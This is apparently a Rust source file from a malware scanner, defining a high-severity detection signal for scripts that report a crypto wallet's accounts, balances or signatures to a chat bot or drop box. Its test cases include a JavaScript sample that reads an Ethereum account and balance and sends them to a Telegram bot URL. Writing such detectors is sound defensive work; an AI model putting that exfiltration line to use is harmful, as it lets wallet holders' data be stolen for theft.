//! `wallet-told-to-bot`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "wallet-told-to-bot",
    description: "The script reports a wallet's holdings or signatures to a chat bot or a public drop box.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::WalletObject, Atom::Wallet]),
        one(&[Atom::BotCall, Atom::DropBox]),
        one(&[Atom::WalletCall, Atom::WalletBalance, Atom::ApproveCall, Atom::TransferCall]),
    ],
    within: 400,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "const a=(await ethereum.request({method:'eth_requestAccounts'}))[0],b=await provider.getBalance(a);fetch('https://api.telegram.org/bot0:T/sendMessage?chat_id=1&text='+a+b)",
        ],
        without: &[
            "const a=(await ethereum.request({method:'eth_requestAccounts'}))[0];show(await provider.getBalance(a))",
        ],
    },
};
